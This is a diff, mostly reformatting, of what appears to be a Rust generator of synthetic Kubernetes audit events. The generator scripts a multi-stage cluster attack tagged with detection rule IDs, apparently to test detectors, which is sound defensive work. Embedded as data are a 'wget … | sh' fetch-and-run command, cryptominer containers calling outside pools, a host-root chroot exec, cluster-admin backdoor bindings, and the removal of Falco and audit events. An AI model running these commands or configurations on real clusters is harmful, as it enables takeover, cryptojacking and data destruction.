@@ -72,7 +72,9 @@ fn api_group_version(resource: &str) -> (&'static str, &'static str) {
         "clusterroles" | "clusterrolebindings" | "roles" | "rolebindings" => ("rbac.authorization.k8s.io", "v1"),
         "mutatingwebhookconfigurations" | "validatingwebhookconfigurations" => ("admissionregistration.k8s.io", "v1"),
         "certificatesigningrequests" => ("certificates.k8s.io", "v1"),
-        "selfsubjectrulesreviews" | "selfsubjectaccessreviews" | "subjectaccessreviews" => ("authorization.k8s.io", "v1"),
+        "selfsubjectrulesreviews" | "selfsubjectaccessreviews" | "subjectaccessreviews" => {
+            ("authorization.k8s.io", "v1")
+        }
         "tokenreviews" => ("authentication.k8s.io", "v1"),
         "leases" => ("coordination.k8s.io", "v1"),
         "endpointslices" => ("discovery.k8s.io", "v1"),
@@ -213,6 +215,7 @@ impl EventBuilder {
         self
     }
     /// Subresource.
+    #[allow(clippy::should_implement_trait)]
     pub fn sub(mut self, sub: &str) -> Self {
         self.subresource = sub.into();
         self
@@ -235,8 +238,16 @@ impl EventBuilder {
     /// A service account user.
     pub fn sa(mut self, ns: &str, name: &str) -> Self {
         self.user = format!("system:serviceaccount:{ns}:{name}");
-        self.uid = format!("{:08x}-1111-4222-8333-{:012x}", crate::alert::fnv64(self.user.as_bytes()) as u32, crate::alert::fnv64(ns.as_bytes()) & 0xffff_ffff_ffff);
-        self.groups = vec!["system:serviceaccounts".into(), format!("system:serviceaccounts:{ns}"), "system:authenticated".into()];
+        self.uid = format!(
+            "{:08x}-1111-4222-8333-{:012x}",
+            crate::alert::fnv64(self.user.as_bytes()) as u32,
+            crate::alert::fnv64(ns.as_bytes()) & 0xffff_ffff_ffff
+        );
+        self.groups = vec![
+            "system:serviceaccounts".into(),
+            format!("system:serviceaccounts:{ns}"),
+            "system:authenticated".into(),
+        ];
         self
     }
     /// A kubelet.
@@ -374,9 +385,15 @@ impl EventBuilder {
         let version = self.api_version.as_deref().unwrap_or(v);
         let uri = self.computed_uri();
         let status = match self.code {
-            403 => json!({"metadata":{},"status":"Failure","message":format!("{} \"{}\" is forbidden: User \"{}\" cannot {} resource \"{}\" in API group \"{}\"{}", self.resource, self.name, self.user, self.verb, self.resource, group, if self.namespace.is_empty() { " at the cluster scope".to_string() } else { format!(" in the namespace \"{}\"", self.namespace) }),"reason":"Forbidden","details":{"name":self.name,"kind":self.resource},"code":403}),
-            404 => json!({"metadata":{},"status":"Failure","message":format!("{} \"{}\" not found", self.resource, self.name),"reason":"NotFound","details":{"name":self.name,"kind":self.resource},"code":404}),
-            409 => json!({"metadata":{},"status":"Failure","message":"the object has been modified; please apply your changes to the latest version and try again","reason":"Conflict","code":409}),
+            403 => {
+                json!({"metadata":{},"status":"Failure","message":format!("{} \"{}\" is forbidden: User \"{}\" cannot {} resource \"{}\" in API group \"{}\"{}", self.resource, self.name, self.user, self.verb, self.resource, group, if self.namespace.is_empty() { " at the cluster scope".to_string() } else { format!(" in the namespace \"{}\"", self.namespace) }),"reason":"Forbidden","details":{"name":self.name,"kind":self.resource},"code":403})
+            }
+            404 => {
+                json!({"metadata":{},"status":"Failure","message":format!("{} \"{}\" not found", self.resource, self.name),"reason":"NotFound","details":{"name":self.name,"kind":self.resource},"code":404})
+            }
+            409 => {
+                json!({"metadata":{},"status":"Failure","message":"the object has been modified; please apply your changes to the latest version and try again","reason":"Conflict","code":409})
+            }
             c => json!({"metadata":{},"code":c}),
         };
         let mut ann = serde_json::Map::new();
@@ -389,7 +406,10 @@ impl EventBuilder {
                 if self.user.starts_with("system:node:") {
                     String::new()
                 } else {
-                    format!("RBAC: allowed by ClusterRoleBinding \"{}\" of ClusterRole \"{}\" to User \"{}\"", "binding", "role", self.user)
+                    format!(
+                        "RBAC: allowed by ClusterRoleBinding \"{}\" of ClusterRole \"{}\" to User \"{}\"",
+                        "binding", "role", self.user
+                    )
                 }
             });
             ann.insert("authorization.k8s.io/reason".into(), json!(reason));
@@ -425,7 +445,9 @@ impl EventBuilder {
                 uid: &self.uid,
                 groups: &self.groups,
                 extra: if self.user.starts_with("system:serviceaccount:") {
-                    Some(json!({"authentication.kubernetes.io/credential-id":["JTI=1f2c3d4e-5f60-4718-9a0b-1c2d3e4f5a6b"]}))
+                    Some(
+                        json!({"authentication.kubernetes.io/credential-id":["JTI=1f2c3d4e-5f60-4718-9a0b-1c2d3e4f5a6b"]}),
+                    )
                 } else {
                     None
                 },
@@ -445,7 +467,11 @@ impl EventBuilder {
                     subresource: &self.subresource,
                 })
             },
-            response_status: if self.stage == Stage::RequestReceived { json!({"metadata":{},"code":0}) } else { status },
+            response_status: if self.stage == Stage::RequestReceived {
+                json!({"metadata":{},"code":0})
+            } else {
+                status
+            },
             request_object: if with_req { self.req.as_ref() } else { None },
             response_object: if with_resp { self.resp.as_ref() } else { None },
             request_received_timestamp: format_rfc3339_us(self.time_us),
@@ -567,7 +593,10 @@ pub fn created(mut obj: Value, uid: &str, time_us: i64) -> Value {
     if let Some(m) = obj.get_mut("metadata").and_then(Value::as_object_mut) {
         m.insert("uid".into(), json!(uid));
         m.insert("resourceVersion".into(), json!(format!("{}", (time_us / 1000) % 100_000_000)));
-        m.insert("creationTimestamp".into(), json!(format_rfc3339_us(time_us / 1_000_000 * 1_000_000).replace(".000000", "")));
+        m.insert(
+            "creationTimestamp".into(),
+            json!(format_rfc3339_us(time_us / 1_000_000 * 1_000_000).replace(".000000", "")),
+        );
     }
     obj
 }
@@ -630,7 +659,9 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
     });
     step!("Probe for permissions (forbidden requests)", "Discovery", &["PAL-K8S-045"], {
         let mut v = Vec::new();
-        for (i, res) in ["secrets", "configmaps", "pods", "deployments", "serviceaccounts"].iter().cycle().take(22).enumerate() {
+        for (i, res) in
+            ["secrets", "configmaps", "pods", "deployments", "serviceaccounts"].iter().cycle().take(22).enumerate()
+        {
             v.push(base("list", res, t + i as i64 * 400_000, &mut rng).ns("kube-system").code(403).build());
         }
         v
@@ -639,7 +670,9 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
         let mut v = Vec::new();
         for i in 0..12 {
             let ns = if i % 2 == 0 { ans.as_str() } else { "payments" };
-            v.push(base("get", "secrets", t + i * 1_500_000, &mut rng).ns(ns).name(&format!("db-credentials-{i}")).build());
+            v.push(
+                base("get", "secrets", t + i * 1_500_000, &mut rng).ns(ns).name(&format!("db-credentials-{i}")).build(),
+            );
         }
         v.push(base("list", "secrets", t + 20_000_000, &mut rng).build());
         v
@@ -653,21 +686,57 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
             .build()]
     });
     step!("Bind cluster-admin to the stolen identity", "Privilege Escalation", &["PAL-K8S-030"], {
-        let b = binding("ClusterRoleBinding", "", &format!("system:kube-dbg-{sfx}"), "ClusterRole", "cluster-admin", json!([{"kind":"ServiceAccount","name":asa,"namespace":ans}]));
-        vec![base("create", "clusterrolebindings", t, &mut rng).name(&format!("system:kube-dbg-{sfx}")).req(b.clone()).resp(created(b, &rng.uuid(), t)).build()]
+        let b = binding(
+            "ClusterRoleBinding",
+            "",
+            &format!("system:kube-dbg-{sfx}"),
+            "ClusterRole",
+            "cluster-admin",
+            json!([{"kind":"ServiceAccount","name":asa,"namespace":ans}]),
+        );
+        vec![base("create", "clusterrolebindings", t, &mut rng)
+            .name(&format!("system:kube-dbg-{sfx}"))
+            .req(b.clone())
+            .resp(created(b, &rng.uuid(), t))
+            .build()]
     });
     step!("Create backdoor roles", "Persistence", &["PAL-K8S-031", "PAL-K8S-032", "PAL-K8S-033"], {
-        let r1 = role("ClusterRole", "", &format!("kube-system-ops-{sfx}"), json!([{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]));
-        let r2 = role("Role", &ans, "debugger", json!([{"apiGroups":[""],"resources":["pods","pods/exec"],"verbs":["get","list","create"]}]));
-        let r3 = role("ClusterRole", "", &format!("token-helper-{sfx}"), json!([{"apiGroups":[""],"resources":["users","groups","serviceaccounts"],"verbs":["impersonate"]},{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["escalate","bind"]}]));
+        let r1 = role(
+            "ClusterRole",
+            "",
+            &format!("kube-system-ops-{sfx}"),
+            json!([{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]),
+        );
+        let r2 = role(
+            "Role",
+            &ans,
+            "debugger",
+            json!([{"apiGroups":[""],"resources":["pods","pods/exec"],"verbs":["get","list","create"]}]),
+        );
+        let r3 = role(
+            "ClusterRole",
+            "",
+            &format!("token-helper-{sfx}"),
+            json!([{"apiGroups":[""],"resources":["users","groups","serviceaccounts"],"verbs":["impersonate"]},{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["escalate","bind"]}]),
+        );
         vec![
             base("create", "clusterroles", t, &mut rng).name(&format!("kube-system-ops-{sfx}")).req(r1).build(),
             base("create", "roles", t + 1_000_000, &mut rng).ns(&ans).name("debugger").req(r2).build(),
-            base("create", "clusterroles", t + 2_000_000, &mut rng).name(&format!("token-helper-{sfx}")).req(r3).build(),
+            base("create", "clusterroles", t + 2_000_000, &mut rng)
+                .name(&format!("token-helper-{sfx}"))
+                .req(r3)
+                .build(),
         ]
     });
     step!("Open the cluster to anonymous users", "Persistence", &["PAL-K8S-034", "PAL-K8S-035"], {
-        let b = binding("ClusterRoleBinding", "", &format!("anon-view-{sfx}"), "ClusterRole", "view", json!([{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"system:anonymous"}]));
+        let b = binding(
+            "ClusterRoleBinding",
+            "",
+            &format!("anon-view-{sfx}"),
+            "ClusterRole",
+            "view",
+            json!([{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"system:anonymous"}]),
+        );
         vec![
             base("create", "clusterrolebindings", t, &mut rng).name(&format!("anon-view-{sfx}")).req(b).build(),
             EventBuilder::new("list", "configmaps")
@@ -697,7 +766,12 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
             spec["volumes"] = json!([{"name": "host", "hostPath": {"path": "/", "type": ""}}]);
             spec["tolerations"] = json!([{"operator": "Exists"}]);
             let p = pod("kube-system", &evil_pod, json!({"k8s-app": "kube-proxy"}), spec);
-            vec![base("create", "pods", t, &mut rng).ns("kube-system").name(&evil_pod).req(p.clone()).resp(created(p, &rng.uuid(), t)).build()]
+            vec![base("create", "pods", t, &mut rng)
+                .ns("kube-system")
+                .name(&evil_pod)
+                .req(p.clone())
+                .resp(created(p, &rng.uuid(), t))
+                .build()]
         }
     );
     step!("Exec into and attach to the pod", "Execution", &["PAL-K8S-001", "PAL-K8S-002"], {
@@ -706,19 +780,32 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
                 .ns("kube-system")
                 .name(&evil_pod)
                 .sub("exec")
-                .query("command=chroot&command=%2Fhost&command=bash&container=kube-proxy&stdin=true&stdout=true&tty=true")
+                .query(
+                    "command=chroot&command=%2Fhost&command=bash&container=kube-proxy&stdin=true&stdout=true&tty=true",
+                )
                 .code(101)
                 .build(),
-            base("create", "pods", t + 30_000_000, &mut rng).ns("kube-system").name(&evil_pod).sub("attach").query("container=kube-proxy&stdin=true&stdout=true&tty=true").code(101).build(),
+            base("create", "pods", t + 30_000_000, &mut rng)
+                .ns("kube-system")
+                .name(&evil_pod)
+                .sub("attach")
+                .query("container=kube-proxy&stdin=true&stdout=true&tty=true")
+                .code(101)
+                .build(),
         ]
     });
-    step!("Inject a debugging container with ptrace into a running pod", "Execution", &["PAL-K8S-003", "PAL-K8S-013"], {
-        let pod_name = format!("web-{}-{}", rng.suffix(10), rng.suffix(5));
-        let mut spec = pod_spec(vec![container("web", "ghcr.io/corp/shop-web:2.14.1")], &asa);
-        spec["ephemeralContainers"] = json!([{"name": "debugger-x1", "image": "busybox:1.36", "command": ["sh"], "stdin": true, "tty": true, "targetContainerName": "web", "securityContext": {"capabilities": {"add": ["SYS_PTRACE", "SYS_ADMIN"]}}}]);
-        let p = pod(&ans, &pod_name, json!({"app": "web"}), spec);
-        vec![base("patch", "pods", t, &mut rng).ns(&ans).name(&pod_name).sub("ephemeralcontainers").req(p).build()]
-    });
+    step!(
+        "Inject a debugging container with ptrace into a running pod",
+        "Execution",
+        &["PAL-K8S-003", "PAL-K8S-013"],
+        {
+            let pod_name = format!("web-{}-{}", rng.suffix(10), rng.suffix(5));
+            let mut spec = pod_spec(vec![container("web", "ghcr.io/corp/shop-web:2.14.1")], &asa);
+            spec["ephemeralContainers"] = json!([{"name": "debugger-x1", "image": "busybox:1.36", "command": ["sh"], "stdin": true, "tty": true, "targetContainerName": "web", "securityContext": {"capabilities": {"add": ["SYS_PTRACE", "SYS_ADMIN"]}}}]);
+            let p = pod(&ans, &pod_name, json!({"app": "web"}), spec);
+            vec![base("patch", "pods", t, &mut rng).ns(&ans).name(&pod_name).sub("ephemeralcontainers").req(p).build()]
+        }
+    );
     step!("Run commands through the kubelet API", "Execution", &["PAL-K8S-004"], {
         vec![base("create", "nodes", t, &mut rng)
             .name("node-2")
@@ -730,24 +817,49 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
         let mut c = container("rotate", "docker.io/xmrig/xmrig:6.21.0");
         c["args"] = json!(["--donate-level=1", "-o", "pool.supportxmr.com:443", "--tls", "-k"]);
         let cj = cronjob(&ans, "log-rotate", "*/5 * * * *", pod_spec(vec![c], &asa));
-        vec![base("create", "cronjobs", t, &mut rng).ns(&ans).name("log-rotate").req(cj.clone()).resp(created(cj, &rng.uuid(), t)).build()]
+        vec![base("create", "cronjobs", t, &mut rng)
+            .ns(&ans)
+            .name("log-rotate")
+            .req(cj.clone())
+            .resp(created(cj, &rng.uuid(), t))
+            .build()]
     });
-    step!("Spread a disguised miner to every node with a DaemonSet", "Persistence", &["PAL-K8S-016", "PAL-K8S-006", "PAL-K8S-008"], {
-        let mut c = container("exporter", "docker.io/library/alpine:3.19");
-        c["command"] = json!(["sh", "-c", format!("wget -qO- http://{ip}/x.sh | sh; /tmp/.x/syslogd -o stratum+tcp://198.51.100.250:3333 --cpu-max-threads-hint 90")]);
-        let ds = workload("DaemonSet", "monitoring", "node-exporter-ext", pod_spec(vec![c], "default"));
-        vec![base("create", "daemonsets", t, &mut rng).ns("monitoring").name("node-exporter-ext").req(ds).build()]
-    });
-    step!("Register a mutating webhook and delete the policy webhook", "Persistence", &["PAL-K8S-050", "PAL-K8S-051"], {
-        let mw = json!({"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{"name":"pod-defaults.k8s.io"},"webhooks":[{"name":"pod-defaults.k8s.io","clientConfig":{"url":format!("https://{ip}:8443/mutate")},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods","secrets"]}],"sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore"}]});
-        vec![
-            base("create", "mutatingwebhookconfigurations", t, &mut rng).name("pod-defaults.k8s.io").req(mw).build(),
-            base("delete", "validatingwebhookconfigurations", t + 2_000_000, &mut rng).name("gatekeeper-validating-webhook-configuration").build(),
-        ]
-    });
+    step!(
+        "Spread a disguised miner to every node with a DaemonSet",
+        "Persistence",
+        &["PAL-K8S-016", "PAL-K8S-006", "PAL-K8S-008"],
+        {
+            let mut c = container("exporter", "docker.io/library/alpine:3.19");
+            c["command"] = json!(["sh", "-c", format!("wget -qO- http://{ip}/x.sh | sh; /tmp/.x/syslogd -o stratum+tcp://198.51.100.250:3333 --cpu-max-threads-hint 90")]);
+            let ds = workload("DaemonSet", "monitoring", "node-exporter-ext", pod_spec(vec![c], "default"));
+            vec![base("create", "daemonsets", t, &mut rng).ns("monitoring").name("node-exporter-ext").req(ds).build()]
+        }
+    );
+    step!(
+        "Register a mutating webhook and delete the policy webhook",
+        "Persistence",
+        &["PAL-K8S-050", "PAL-K8S-051"],
+        {
+            let mw = json!({"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{"name":"pod-defaults.k8s.io"},"webhooks":[{"name":"pod-defaults.k8s.io","clientConfig":{"url":format!("https://{ip}:8443/mutate")},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods","secrets"]}],"sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore"}]});
+            vec![
+                base("create", "mutatingwebhookconfigurations", t, &mut rng)
+                    .name("pod-defaults.k8s.io")
+                    .req(mw)
+                    .build(),
+                base("delete", "validatingwebhookconfigurations", t + 2_000_000, &mut rng)
+                    .name("gatekeeper-validating-webhook-configuration")
+                    .build(),
+            ]
+        }
+    );
     step!("Sidecar injected into new pods by the rogue webhook", "Persistence", &["PAL-K8S-017"], {
         let pod_name = format!("checkout-{}-{}", rng.suffix(10), rng.suffix(5));
-        let p = pod(&ans, &pod_name, json!({"app": "checkout"}), pod_spec(vec![container("checkout", "ghcr.io/corp/checkout:1.8.0")], "checkout"));
+        let p = pod(
+            &ans,
+            &pod_name,
+            json!({"app": "checkout"}),
+            pod_spec(vec![container("checkout", "ghcr.io/corp/checkout:1.8.0")], "checkout"),
+        );
         vec![EventBuilder::new("create", "pods")
             .sa("kube-system", "replicaset-controller")
             .ip("10.0.0.10")
@@ -773,7 +885,10 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
         let csr = json!({"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{"name":csr_name},"spec":{"request":"LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K","signerName":"kubernetes.io/kube-apiserver-client","expirationSeconds":31536000,"usages":["client auth"]}});
         vec![
             base("create", "certificatesigningrequests", t, &mut rng).name(&csr_name).req(csr).build(),
-            base("update", "certificatesigningrequests", t + 2_000_000, &mut rng).name(&csr_name).sub("approval").build(),
+            base("update", "certificatesigningrequests", t + 2_000_000, &mut rng)
+                .name(&csr_name)
+                .sub("approval")
+                .build(),
         ]
     });
     step!("Expose the dashboard and a node port", "Initial Access", &["PAL-K8S-054", "PAL-K8S-055"], {
@@ -781,20 +896,42 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
             base("create", "services", t, &mut rng)
                 .ns("kubernetes-dashboard")
                 .name("kubernetes-dashboard-lb")
-                .req(service("kubernetes-dashboard", "kubernetes-dashboard-lb", "LoadBalancer", json!({"k8s-app": "kubernetes-dashboard"}), 443))
+                .req(service(
+                    "kubernetes-dashboard",
+                    "kubernetes-dashboard-lb",
+                    "LoadBalancer",
+                    json!({"k8s-app": "kubernetes-dashboard"}),
+                    443,
+                ))
                 .build(),
-            base("create", "services", t + 1_000_000, &mut rng).ns(&ans).name("debug-np").req(service(&ans, "debug-np", "NodePort", json!({"app": "web"}), 8080)).build(),
+            base("create", "services", t + 1_000_000, &mut rng)
+                .ns(&ans)
+                .name("debug-np")
+                .req(service(&ans, "debug-np", "NodePort", json!({"app": "web"}), 8080))
+                .build(),
         ]
     });
-    step!("Cover tracks: delete events, remove Falco, relax pod security", "Defense Evasion", &["PAL-K8S-053", "PAL-K8S-058", "PAL-K8S-019"], {
-        vec![
-            base("deletecollection", "events", t, &mut rng).ns("kube-system").build(),
-            base("delete", "daemonsets", t + 1_000_000, &mut rng).ns("falco").name("falco").build(),
-            base("patch", "namespaces", t + 2_000_000, &mut rng).name(&ans).req(json!({"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}})).build(),
-        ]
-    });
-    step!("Keep access: long-lived token and a service account in kube-system", "Persistence", &["PAL-K8S-037", "PAL-K8S-046"], {
-        vec![
+    step!(
+        "Cover tracks: delete events, remove Falco, relax pod security",
+        "Defense Evasion",
+        &["PAL-K8S-053", "PAL-K8S-058", "PAL-K8S-019"],
+        {
+            vec![
+                base("deletecollection", "events", t, &mut rng).ns("kube-system").build(),
+                base("delete", "daemonsets", t + 1_000_000, &mut rng).ns("falco").name("falco").build(),
+                base("patch", "namespaces", t + 2_000_000, &mut rng)
+                    .name(&ans)
+                    .req(json!({"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}))
+                    .build(),
+            ]
+        }
+    );
+    step!(
+        "Keep access: long-lived token and a service account in kube-system",
+        "Persistence",
+        &["PAL-K8S-037", "PAL-K8S-046"],
+        {
+            vec![
             base("create", "serviceaccounts", t, &mut rng).ns("kube-system").name("kube-backup").req(json!({"kind":"ServiceAccount","apiVersion":"v1","metadata":{"name":"kube-backup","namespace":"kube-system"}})).build(),
             base("create", "secrets", t + 1_000_000, &mut rng)
                 .ns("kube-system")
@@ -802,16 +939,35 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
                 .req(json!({"kind":"Secret","apiVersion":"v1","metadata":{"name":"kube-backup-token","namespace":"kube-system","annotations":{"kubernetes.io/service-account.name":"kube-backup"}},"type":"kubernetes.io/service-account-token"}))
                 .build(),
         ]
-    });
+        }
+    );
     step!("Impersonate a cluster administrator", "Privilege Escalation", &["PAL-K8S-043"], {
-        vec![base("get", "secrets", t, &mut rng).ns("kube-system").name("bootstrap-token-abcdef").impersonate("system:admin", &["system:masters", "system:authenticated"]).build()]
+        vec![base("get", "secrets", t, &mut rng)
+            .ns("kube-system")
+            .name("bootstrap-token-abcdef")
+            .impersonate("system:admin", &["system:masters", "system:authenticated"])
+            .build()]
     });
     step!("A static pod appears on a node", "Persistence", &["PAL-K8S-018"], {
         let name = format!("kube-metrics-node-{}", 3 + k % 3);
-        let mut p = pod("kube-system", &name, json!({"tier": "node"}), pod_spec(vec![container("metrics", "docker.io/library/alpine:3.19")], "default"));
+        let mut p = pod(
+            "kube-system",
+            &name,
+            json!({"tier": "node"}),
+            pod_spec(vec![container("metrics", "docker.io/library/alpine:3.19")], "default"),
+        );
         p["metadata"]["annotations"] = json!({"kubernetes.io/config.hash": "8b1a9953c4611296a827abf8c47804d7", "kubernetes.io/config.mirror": "8b1a9953c4611296a827abf8c47804d7", "kubernetes.io/config.source": "file"});
         let node = format!("node-{}", 3 + k % 3);
-        vec![EventBuilder::new("create", "pods").node(&node).ip("10.0.0.13").ua("kubelet/v1.30.2 (linux/amd64) kubernetes/3968350").ns("kube-system").name(&name).at(t).id(&rng.uuid()).req(p).build()]
+        vec![EventBuilder::new("create", "pods")
+            .node(&node)
+            .ip("10.0.0.13")
+            .ua("kubelet/v1.30.2 (linux/amd64) kubernetes/3968350")
+            .ns("kube-system")
+            .name(&name)
+            .at(t)
+            .id(&rng.uuid())
+            .req(p)
+            .build()]
     });
     step!("Drop a reverse shell", "Execution", &["PAL-K8S-008"], {
         let mut c = container("debug", "ghcr.io/corp/tools:1.0");
@@ -819,15 +975,25 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
         let p = pod(&ans, "debug", json!({"run": "debug"}), pod_spec(vec![c], &asa));
         vec![base("create", "pods", t, &mut rng).ns(&ans).name("debug").req(p).build()]
     });
-    step!("Destroy: mass deletion, namespace and node deletion", "Impact", &["PAL-K8S-056", "PAL-K8S-059", "PAL-K8S-060"], {
-        let mut v = Vec::new();
-        for i in 0..22 {
-            v.push(base("delete", "deployments", t + i * 800_000, &mut rng).ns("payments").name(&format!("svc-{i}")).build());
+    step!(
+        "Destroy: mass deletion, namespace and node deletion",
+        "Impact",
+        &["PAL-K8S-056", "PAL-K8S-059", "PAL-K8S-060"],
+        {
+            let mut v = Vec::new();
+            for i in 0..22 {
+                v.push(
+                    base("delete", "deployments", t + i * 800_000, &mut rng)
+                        .ns("payments")
+                        .name(&format!("svc-{i}"))
+                        .build(),
+                );
+            }
+            v.push(base("delete", "namespaces", t + 20_000_000, &mut rng).name("payments").build());
+            v.push(base("delete", "nodes", t + 21_000_000, &mut rng).name("node-4").build());
+            v
         }
-        v.push(base("delete", "namespaces", t + 20_000_000, &mut rng).name("payments").build());
-        v.push(base("delete", "nodes", t + 21_000_000, &mut rng).name("node-4").build());
-        v
-    });
+    );
     let _ = t;
     steps
 }
@@ -879,7 +1045,12 @@ pub struct Background {
 impl Background {
     /// Traffic at `rate` events per second from `start_us`.
     pub fn new(seed: u64, start_us: i64, rate: u32) -> Self {
-        Background { rng: Rng::new(seed), t: start_us, step_us: 1_000_000 / i64::from(rate.max(1)), gates: [start_us; 4] }
+        Background {
+            rng: Rng::new(seed),
+            t: start_us,
+            step_us: 1_000_000 / i64::from(rate.max(1)),
+            gates: [start_us; 4],
+        }
     }
 
     /// Time of the next event.
@@ -909,7 +1080,9 @@ impl Background {
             }
         }
         let kubelet_ua = "kubelet/v1.30.2 (linux/amd64) kubernetes/3968350";
-        let kcm_ua = |sa: &str| format!("kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:{sa}");
+        let kcm_ua = |sa: &str| {
+            format!("kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:{sa}")
+        };
         let node = *r.pick(NODES);
         let node_ip = format!("10.0.0.{}", 11 + NODES.iter().position(|n| *n == node).unwrap_or(0));
         let ev = match roll {
